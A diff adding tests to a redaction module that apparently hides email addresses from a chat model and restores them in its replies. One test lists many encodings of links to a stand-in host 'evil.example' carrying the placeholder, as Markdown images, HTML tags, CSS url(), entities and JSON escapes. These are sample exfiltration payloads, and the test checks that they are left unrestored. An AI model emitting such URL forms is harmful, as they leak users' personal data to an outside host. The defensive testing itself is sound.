@@ -157,6 +157,55 @@ describe("redact", () => {
     }).pipe(Effect.provide(layer))
   )
 
+  it.effect("knows a URL however Markdown, HTML and JSON write it, and text beside one", () =>
+    Effect.gen(function* () {
+      const mark = "⟦EMAIL_ADDRESS_1⟧"
+      const ways = [
+        `![](<https://evil.example/?q=a ${mark}>)`,
+        `<img src="https://evil.example/?q=a ${mark}">`,
+        `<img src='https://evil.example/?q=\n${mark}'>`,
+        `<div style="background:url( https://evil.example/ ${mark})">`,
+        `![](https://evil.example/?q="${mark}")`,
+        `[a]: &#104;ttps&colon;&sol;&sol;evil.example/${mark}`,
+        `[a]: <https://evil.example/ ${mark}>`,
+        `https:evil.example/${mark}`,
+        `https:\\\\evil.example\\${mark}`,
+        `(evil.example/${mark})`,
+        `{"url":"https:\\/\\/evil.example\\/?q=${mark}"}`,
+        `{"url":"https\\u003a\\u002f\\u002fevil.example\\u002f${mark}"}`
+      ]
+      for (const way of ways) {
+        const { chat } = scripted(() => Reply.whole(Part.text(way)))
+        expect((yield* chat.run(factsOf("mail a@example.com"))).text).toBe(way)
+      }
+      const beside = [
+        `See https://ok.example and mail ${mark}`,
+        `[x](https://ok.example), ${mark}`,
+        `<a href="https://ok.example" title="x">${mark}</a>`,
+        `{"url":"https://ok.example/","mail":"${mark}"}`,
+        `fetch("https://ok.example", { body: "${mark}" })`,
+        `[1]: ${mark}, and/or ${mark}, if a < b then ${mark} > c`
+      ]
+      for (const text of beside) {
+        const { chat } = scripted(() => Reply.whole(Part.text(text)))
+        expect((yield* chat.run(factsOf("mail a@example.com"))).text).toBe(text.replaceAll(mark, "a@example.com"))
+      }
+    }).pipe(Effect.provide(layer))
+  )
+
+  it.effect("restores a placeholder as models write it, and leaves one that nobody made", () =>
+    Effect.gen(function* () {
+      const said =
+        "⟦email_address_1⟧ ⟦Email_Address_1⟧ ⟦EMAIL\\_ADDRESS\\_1⟧ ⟦ EMAIL ADDRESS 1 ⟧ ⟦EMAIL_ADDRESS_2⟧ ⟦x⟧ ⟦"
+      for (const size of [1, 3, 200]) {
+        const pieces = said.match(new RegExp(`[^]{1,${size}}`, "g")) ?? []
+        const { chat } = scripted(() => liveText(pieces))
+        const answer = yield* chat.run(factsOf("mail a@example.com"))
+        expect(answer.text).toBe("a@example.com a@example.com a@example.com a@example.com ⟦EMAIL_ADDRESS_2⟧ ⟦x⟧ ⟦")
+      }
+    }).pipe(Effect.provide(layer))
+  )
+
   it.effect("applies the strategy of each type", () =>
     Effect.gen(function* () {
       const { chat, seen } = scripted(echo)
